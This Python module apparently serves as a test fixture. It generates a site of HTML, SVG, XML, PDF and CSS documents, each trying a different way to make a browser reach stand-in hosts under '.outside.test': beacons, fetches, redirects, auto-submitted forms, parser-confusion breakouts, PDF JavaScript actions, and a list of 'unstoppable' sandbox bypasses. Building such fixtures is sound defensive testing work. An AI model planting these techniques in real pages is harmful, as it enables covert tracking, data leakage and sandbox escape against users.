# ruff: noqa: E501, UP031
"""A site of everything that HTML, SVG, XML, MathML, PDF, CSS and manifests let a page load, run or go to by itself.

Every address outside of the site is on a host below `.outside.test` and names its way out, so that a request tells what
let it leave.
"""

from __future__ import annotations

SITE = "http://lost.example"


def _out(name: str) -> str:
    return f"http://{name}.outside.test/{name}"


_HTML = {
    "img": '<img src="{o}">', "srcset": '<img srcset="{o} 1x, {o}2 2x">', "picture": '<picture><source srcset="{o}"><img></picture>',
    "video": '<video src="{o}" poster="{o}p" autoplay></video>', "audio": '<audio src="{o}" autoplay></audio>',
    "track": '<video><track src="{o}" default></video>', "embed": '<embed src="{o}">', "object": '<object data="{o}"></object>',
    "iframe": '<iframe src="{o}"></iframe>', "srcdoc": "<iframe srcdoc='<img src={o}><script>fetch(\"{o}s\")</script>'></iframe>",
    "dataframe": "<iframe src='data:text/html,<img src={o}><script>top.location=\"{o}t\"</script>'></iframe>",
    "jsframe": "<iframe src='javascript:fetch(\"{o}\")'></iframe>", "input": '<input type=image src="{o}">',
    "background": '<table background="{o}"><tr><td background="{o}t">x</table>', "applet": '<applet code="{o}" archive="{o}a"></applet>',
    "script": '<script src="{o}"></script>', "module": '<script type=module>import "{o}"</script>',
    "importmap": '<script type=importmap>{{"imports": {{"a": "{o}"}}}}</script><script type=module>import "a"</script>',
    "speculation": '<script type="speculationrules">{{"prefetch":[{{"source":"list","urls":["{o}"],"eagerness":"immediate"}}],'
                   '"prerender":[{{"source":"list","urls":["{o}p"],"eagerness":"immediate"}}]}}</script>',
    "style": '<style>@import "{o}"; body{{background:url({o}b)}}</style>', "escaped": "<style>body{{background:u\\72l({o})}}</style>",
    "imageset": '<style>b{{background:image-set("{o}" 1x)}}</style><b>x</b>',
    "variable": '<style>:root{{--x:"{o}"}}i{{background:image-set(var(--x) 1x)}}</style><i>x</i>',
    "font": '<style>@font-face{{font-family:f;src:url({o})}}u{{font-family:f}}</style><u>x</u>', "attribute": '<p style="background:url({o})">x</p>',
    "cursor": '<style>body{{cursor:url({o}),auto}}</style>', "unclosed": "<p style='background:url({o}'>x</p>",
    "stylesheet": '<link rel=stylesheet href="{o}">', "preload": '<link rel=preload as=image href="{o}">', "prefetch": '<link rel=prefetch href="{o}">',
    "preconnect": '<link rel=preconnect href="{o}">', "dnsprefetch": '<link rel=dns-prefetch href="{o}">',
    "mixedrel": '<link rel="next preconnect dns-prefetch prefetch" href="{o}">', "canonical": '<link rel="canonical preconnect" href="{o}">',
    "modulepreload": '<link rel=modulepreload href="{o}">', "prerender": '<link rel=prerender href="{o}">', "icon": '<link rel=icon href="{o}">',
    "manifest": '<link rel=manifest href="{o}">', "imagesrcset": '<link rel=preload as=image imagesrcset="{o} 1x">',
    "search": '<link rel=search type="application/opensearchdescription+xml" href="{o}">',
    "attribution": '<img attributionsrc="{o}" src=/i.gif>', "ping": '<a id=ping ping="{o}" href="#x">x</a><script>ping.click()</script>',
    "refresh": '<meta http-equiv=refresh content="1;url={o}">', "refreshbare": '<meta http-equiv="refresh" content="1;{o}">',
    "refreshquoted": "<meta http-equiv=refresh content=\"1, URL = '{o}'\">",
    "noscript": "<noscript><!--</noscript><meta http-equiv=refresh content='1;url={o}'>-->", "noembed": "<noembed><!--</noembed><meta http-equiv=refresh content='1;url={o}'>-->",
    "svgstyle": "<svg><style><meta http-equiv=refresh content='1;url={o}'></style></svg>",
    "svgbreak": "<svg><p><style><!--</style><meta http-equiv=refresh content='1;url={o}'>--></style>",
    "comment": "<!--><meta http-equiv=refresh content='1;url={o}'>-->", "bogus": "<!x --><meta http-equiv=refresh content='1;url={o}'>",
    "hint": "<noscript><!--</noscript><link rel=preconnect href='{o}'>-->", "textarea": "<svg><textarea></svg><link rel=dns-prefetch href='{o}'></textarea>",
    "fetch": "<script>fetch('{o}').catch(()=>0)</script>", "beacon": "<script>navigator.sendBeacon('{o}')</script>", "xhr": "<script>x=new XMLHttpRequest();x.open('GET','{o}');x.send()</script>",
    "websocket": "<script>new WebSocket('ws://websocket.outside.test/')</script>", "eventsource": "<script>new EventSource('{o}')</script>",
    "webrtc": "<script>try{{p=new RTCPeerConnection({{iceServers:[{{urls:'turn:webrtc.outside.test:80?transport=tcp',username:'a',credential:'b'}}]}});"
              "p.createDataChannel('');p.createOffer().then(o=>p.setLocalDescription(o))}}catch(e){{}}</script>",
    "worker": "<script>new Worker('/w.js')</script>", "blobworker": "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('{o}')\"])))</script>",
    "serviceworker": "<script>navigator.serviceWorker&&navigator.serviceWorker.register('/w.js')</script>",
    "location": "<script>location='{o}'</script>", "locationlate": "<script>setTimeout(()=>location.href='{o}',50)</script>",
    "replace": "<script>location.replace('{o}')</script>", "assign": "<body onload=\"location.assign('{o}')\">", "open": "<script>window.open('{o}')</script>",
    "form": "<form id=f action='{o}'><input name=a></form><script>f.submit()</script>", "post": "<form id=g method=post action='{o}'></form><script>g.submit()</script>",
    "button": "<form><button id=b formaction='{o}'>x</button></form><script>b.click()</script>", "anchor": "<a id=a href='{o}'>x</a><script>a.click()</script>",
    "blank": "<a id=k target=_blank href='{o}'>x</a><script>k.click()</script>", "written": "<script>document.write('<meta http-equiv=refresh content=\"0;url={o}\"><img src={o}i>')</script>",
    "frame": "<iframe name=n></iframe><script>n.location='{o}'</script>", "parent": "<iframe srcdoc='<script>parent.location=\"{o}\"</script>'></iframe>",
    "handler": "<img src=x onerror=\"fetch('{o}');location='{o}h'\">", "injected": "<script>s=document.createElement('script');s.src='{o}';document.body.append(s)</script>",
    "linked": "<script>l=document.createElement('link');l.rel='prefetch';l.href='{o}';document.head.append(l)</script>",
    "mathml": '<math><mtext><img src="{o}"></mtext><annotation-xml encoding="text/html"><iframe src="{o}a"></iframe></annotation-xml></math>',
    "inlinesvg": '<svg><image href="{o}"/><use href="{o}u#x"/><foreignObject><img src="{o}f"></foreignObject><rect fill="url({o}r)" width=9 height=9 /></svg>',
    "feimage": '<svg><filter id=q><feImage href="{o}"/></filter><rect filter="url(#q)" width=9 height=9 /></svg>',
    "animated": '<svg><image width=9 height=9><set attributeName=href to="{o}" /></image></svg>', "base": '<base href="{o}/"><img src=relative>',
    "file": '<img src="file://file.outside.test/x"><iframe src="file://file.outside.test/y"></iframe>', "backslash": '<img src="\\\\backslash.outside.test\\x">',
    "tabbed": '<img src="ht&#9;tp://tabbed.outside.test/x">', "entity": '<img src="&#104;ttp://entity.outside.test/x">',
}  # fmt: skip

# What scripts do, in a second shape or behind the back of a page's first script.
_SCRIPTS = {
    "detachedclick": "a=document.createElement('a');a.href='{o}';a.click()",
    "detachedblank": "a=document.createElement('a');a.href='{o}';a.target='_blank';a.click()",
    "dispatched": "a=document.createElement('a');a.href='{o}';a.target='_blank';a.dispatchEvent(new MouseEvent('click'))",
    "dispatchedself": "a=document.createElement('a');a.href='{o}';a.dispatchEvent(new MouseEvent('click',{{ctrlKey:true}}))",
    "dispatchedarea": "a=document.createElement('area');a.href='{o}';a.target='x';a.dispatchEvent(new MouseEvent('click'))",
    "dispatchedsvg": "s='http://www.w3.org/2000/svg';a=document.createElementNS(s,'a');a.setAttribute('href','{o}');"
                     "a.setAttribute('target','_blank');document.body.append(a);a.dispatchEvent(new MouseEvent('click'))",
    "shadow": "d=document.createElement('div');document.body.append(d);r=d.attachShadow({{mode:'closed'}});"
              "r.innerHTML='<a target=_blank href={o}>x</a>';r.firstChild.dispatchEvent(new MouseEvent('click'))",
    "oldevent": "a=document.createElement('a');a.href='{o}';a.target='y';e=document.createEvent('MouseEvents');"
                "e.initMouseEvent('click',true,true);a.dispatchEvent(e)",
    "requestsubmit": "f=document.createElement('form');f.action='{o}';document.body.append(f);f.requestSubmit();f.submit()",
    "detachedform": "f=document.createElement('form');f.action='{o}';f.target='_blank';f.requestSubmit();HTMLFormElement.prototype.submit.call(f)",
    "documentopen": "document.open('{o}','_blank','width=9')",
    "opennamed": "window.open('','n');window.open('{o}','n')",
    "openthen": "w=window.open('about:blank');w.location='{o}'",
    "navigation": "navigation.navigate('{o}')",
    "srcdocnav": "f=document.createElement('iframe');f.srcdoc='<script>top.location.href=\"{o}\"<\\/script>';document.body.append(f)",
    "framenav": "f=document.createElement('iframe');document.body.append(f);f.contentWindow.location='{o}';f.src='{o}2'",
    "frametop": "f=document.createElement('iframe');document.body.append(f);f.contentWindow.eval('top.location=\"{o}\"')",
    "metawritten": "document.write('<base href=\"{o}/\"><img src=x>')",
    "metainserted": "m=document.createElement('meta');m.httpEquiv='refresh';m.content='0;url={o}';document.head.append(m)",
    "baseinserted": "b=document.createElement('base');b.href='{o}/';document.head.prepend(b);new Image().src='x'",
    "unload": "addEventListener('pagehide',()=>{{navigator.sendBeacon('{o}');fetch('{o}f',{{keepalive:true}})}});"
              "addEventListener('unload',()=>{{navigator.sendBeacon('{o}u')}})",
    "prefetched": "for(r of ['prefetch','prerender','preload','modulepreload','stylesheet','icon','manifest']){{"
                  "l=document.createElement('link');l.rel=r;l.as='image';l.href='{o}'+r;document.head.append(l)}}",
    "speculated": "s=document.createElement('script');s.type='speculationrules';s.textContent=JSON.stringify({{prefetch:[{{source:'list',"
                  "urls:['{o}'],eagerness:'immediate'}}],prerender:[{{source:'list',urls:['{o}p'],eagerness:'immediate'}}]}});document.head.append(s)",
    "rtc": "new RTCPeerConnection({{iceServers:[{{urls:'turn:rtc.outside.test:80?transport=tcp',username:'a',credential:'b'}}]}})"
           ".createDataChannel('')",
    "importscripts": "new Worker(URL.createObjectURL(new Blob([\"importScripts('{o}')\"])))",
    "dataworker": "new Worker('data:text/javascript,'+encodeURIComponent(\"fetch('{o}');importScripts('{o}i')\"))",
    "sharedworker": "new SharedWorker('data:text/javascript,'+encodeURIComponent(\"fetch('{o}')\"));new SharedWorker('/w.js')",
    "workersocket": "new Worker(URL.createObjectURL(new Blob([\"new WebSocket('ws://workersocket.outside.test/');new EventSource('{o}')\"])))",
    "worklet": "CSS.paintWorklet&&CSS.paintWorklet.addModule('{o}');new OfflineAudioContext(1,9,9000).audioWorklet.addModule('{o}a')",
    "transport": "new WebTransport('https://transport.outside.test/')",
    "cssom": "s=document.createElement('style');document.head.append(s);s.sheet.insertRule('body{{background:url({o})}}');"
             "document.body.style.background='url({o}b)';c=new CSSStyleSheet();c.replaceSync('html{{background:url({o}c)}}');document.adoptedStyleSheets=[c]",
    "fontface": "f=new FontFace('f','url({o})');document.fonts.add(f);f.load()",
    "pinged": "a=document.createElement('a');a.href='#x';a.ping='{o}';document.body.append(a);a.click()",
    "innerhtml": "document.body.innerHTML='<img src={o}><svg><image href={o}s /></svg><video src={o}v></video><object data={o}o></object>"
                 "<embed src={o}e><iframe src={o}f></iframe><input type=image src={o}i>'",
    "imported": "import('{o}')",
    "xslt": "p=new XSLTProcessor();p.importStylesheet(new DOMParser().parseFromString('<x:stylesheet version=\"1.0\" xmlns:x=\""
            "http://www.w3.org/1999/XSL/Transform\"><x:import href=\"{o}\"/></x:stylesheet>','text/xml'))",
    "payment": "new PaymentRequest([{{supportedMethods:'https://payment.outside.test/pay'}}],{{total:{{label:'x',amount:{{currency:'EUR',value:'1'}}}}}})"
               ".canMakePayment()",
    "federated": "navigator.credentials.get({{identity:{{providers:[{{configURL:'https://federated.outside.test/f.json',clientId:'1'}}]}}}})",
    "session": "navigator.mediaSession.metadata=new MediaMetadata({{title:'x',artwork:[{{src:'{o}'}}]}})",
    "notification": "new Notification('x',{{icon:'{o}'}})",
}  # fmt: skip
# What no policy and no script of the page can prevent in today's browsers (SECURITY.md); the copy without scripts has none of it.
UNSTOPPABLE = {
    "preconnected": "l=document.createElement('link');l.rel='preconnect';l.href='https://preconnected.outside.test';document.head.append(l)",
    "freshopen": "f=document.createElement('iframe');document.body.append(f);f.contentWindow.open('{o}')",
    "freshclick": "f=document.createElement('iframe');document.body.append(f);a=document.createElement('a');a.href='{o}';a.target='_blank';"
                  "f.contentWindow.EventTarget.prototype.dispatchEvent.call(a,new MouseEvent('click'))",
    "framelink": "f=document.createElement('iframe');document.body.append(f);a=f.contentDocument.createElement('a');a.href='{o}';"
                 "a.target='_blank';a.click()",
}  # fmt: skip

_SVG = {
    "svgscript": "<script>fetch('{o}');location='{o}l'</script>", "svgprefix": '<h:script xmlns:h="http://www.w3.org/1999/xhtml">new Image().src="{o}"</h:script>',
    "svgonload": '<g onload="location=\'{o}\'"/>', "svgimage": '<image href="{o}" width="9" height="9"/>', "svgxlink": '<image xlink:href="{o}" width="9" height="9"/>',
    "svguse": '<use href="{o}#a"/>', "svgcss": '<style>@import "{o}"; rect{{fill:url({o}f#a)}}</style><rect width="9" height="9"/>', "svgfont": '<style>@font-face{{font-family:f;src:url({o})}}text{{font-family:f}}</style><text>x</text>',
    "svgforeign": '<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="{o}"/><iframe xmlns="http://www.w3.org/1999/xhtml" src="{o}i"/></foreignObject>',
    "svgmeta": '<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url={o}"/>', "svglink": '<link xmlns="http://www.w3.org/1999/xhtml" rel="preconnect stylesheet" href="{o}"/>',
    "svgset": '<image width="9" height="9"><set attributeName="href" to="{o}"/></image>', "svganimate": '<a><animate attributeName="xlink:href" values="javascript:fetch(\'{o}\')"/></a>',
    "svgfill": '<rect width="9" height="9" fill="url({o}#p)"/>', "svgattr": '<rect width="9" height="9" style="background:url({o});fill:u\\72l({o}e#a)"/>',
    "svgentity": "&e;", "svgvar": '<style>:root{{--x:"{o}"}}svg{{background:image-set(var(--x) 1x)}}</style>',
    "svgfeimage": '<filter id="q"><feImage href="{o}"/></filter><rect filter="url(#q)" width="9" height="9"/>', "svgvideo": '<video xmlns="http://www.w3.org/1999/xhtml" src="{o}" autoplay=""/>',
}  # fmt: skip
_NAMESPACES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


def _svg(name: str, content: str) -> str:
    out = _out(name)
    entity = f"<!ENTITY e \"<script>location='{out}'</script><image href='{out}i' width='9' height='9'/>\">"
    sheet = f'<?xml-stylesheet href="{out}.css"?>'
    return f'<?xml version="1.0"?>{sheet}<!DOCTYPE svg [{entity}]><svg {_NAMESPACES}>{content.format(o=out)}</svg>'


def _xml(name: str, inside: str) -> str:
    out = _out(name)
    return f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{out}.xsl"?><?xml-stylesheet href="{out}.css"?>{inside.format(o=out)}'


_H = 'xmlns:h="http://www.w3.org/1999/xhtml"'
_XML = {
    "rss": f'<rss {_H}><channel><h:script>location="{{o}}"</h:script><h:img src="{{o}}i"/><item><link>{{o}}l</link></item></channel></rss>',
    "atom": '<feed xmlns="http://www.w3.org/2005/Atom"><content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><img src="{o}"/>'
            '<script>fetch("{o}s")</script><style>div{{background:url({o}b)}}</style></div></content></feed>',
    "mml": '<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><img xmlns="http://www.w3.org/1999/xhtml" src="{o}" onerror="location=\'{o}e\'"/></mtext></math>',
    "xsl": '<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/"><img xmlns="http://www.w3.org/1999/xhtml" src="{o}"/></x:template></x:stylesheet>',
    "xhtml": '<html xmlns="http://www.w3.org/1999/xhtml"><head><meta http-equiv="refresh" content="0;url={o}"/><link rel="preconnect" href="{o}c"/>'
             '<base href="{o}b/"/><script>location="{o}s"</script></head><body onload="fetch(\'{o}o\')"><img src="{o}i"/><object data="{o}d"/></body></html>',
}  # fmt: skip


def _pdf(name: str) -> bytes:
    out = _out(name)
    objects = [
        "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(%s)>>/AA<</WC<</S/JavaScript/JS(app.launchURL('%s'))>>>>>>" % (out, out),
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/AA<</O<</S/JavaScript/JS(this.submitForm('%s');app.launchURL('%s'))>>>>>>" % (out, out),
    ]  # fmt: skip
    text, offsets = "%PDF-1.4\n", []
    for number, content in enumerate(objects, 1):
        offsets.append(len(text))
        text += f"{number} 0 obj{content}endobj\n"
    table = "".join(f"{offset:010d} 00000 n \n" for offset in offsets)
    return f"{text}xref\n0 4\n0000000000 65535 f \n{table}trailer<</Size 4/Root 1 0 R>>\nstartxref\n{len(text)}\n%%EOF".encode()


def _page(title: str, body: str) -> bytes:
    return f"<!DOCTYPE html><html><head><title>{title}</title></head><body>{body}</body></html>".encode()


def zoo() -> list[tuple[str, str, bytes]]:
    """(URI, media type, content) of the site: a page for each way out, and documents that frames open."""
    found: list[tuple[str, str, bytes]] = []
    for name, markup in _HTML.items():
        found.append((f"{SITE}/html/{name}.html", "text/html", _page(name, markup.format(o=_out(name)))))
    for name, script in (_SCRIPTS | UNSTOPPABLE).items():
        markup = f"<script>try{{{script.format(o=_out(name))}}}catch(e){{}}</script>"
        found.append((f"{SITE}/script/{name}.html", "text/html", _page(name, markup)))
    others = [(f"/svg/{name}.svg", "image/svg+xml", _svg(name, content).encode()) for name, content in _SVG.items()]
    endings = {"rss": "rss+xml", "atom": "atom+xml", "mml": "mathml+xml", "xsl": "xml", "xhtml": "xhtml+xml"}
    for name, content in _XML.items():
        ending = name if name in ("xsl", "xhtml") else "xml"
        others.append((f"/xml/{name}.{ending}", f"application/{endings[name]}", _xml(name, content).encode()))
    others += [
        ("/pdf/a.pdf", "application/pdf", _pdf("pdf")),
        ("/lie/a.svg", "image/png", _svg("lie", _SVG["svgscript"]).encode()),  # what it is said to be is not what it is
        ("/lie/b", "image/gif", _page("lieb", "<img src='http://lieb.outside.test/'><script>location='http://lieb.outside.test/l'</script>")),
        ("/lie/c.html", "text/plain", _page("liec", "<img src='http://liec.outside.test/'>")),
        ("/lie/d.xml", "text/plain", _xml("lied", _XML["rss"]).encode()),
    ]  # fmt: skip
    found += [(SITE + path, kind, content) for path, kind, content in others]
    frames = "".join(
        f'<iframe src="{path}"></iframe><object data="{path}"></object><embed src="{path}">' for path, _, _ in others
    )
    found += [
        (f"{SITE}/", "text/html", _page("front", frames)),
        (f"{SITE}/i.gif", "image/gif", b"GIF89a"),
        (f"{SITE}/w.js", "text/javascript", b"fetch('http://worker.outside.test/')"),
        (f"{SITE}/m.webmanifest", "application/manifest+json", b'{"start_url": "http://m.outside.test/", "icons": [{"src": "http://m.outside.test/i"}]}'),
        (f"{SITE}/manifested.html", "text/html", _page("m", "<link rel=manifest href=/m.webmanifest>")),
        (f"{SITE}/s.css", "text/css", b'@import "http://css.outside.test/"; body{background:url(//css.outside.test/b)'),
        (f"{SITE}/styled.html", "text/html", _page("s", "<link rel=stylesheet href=/s.css>")),
    ]  # fmt: skip
    return found
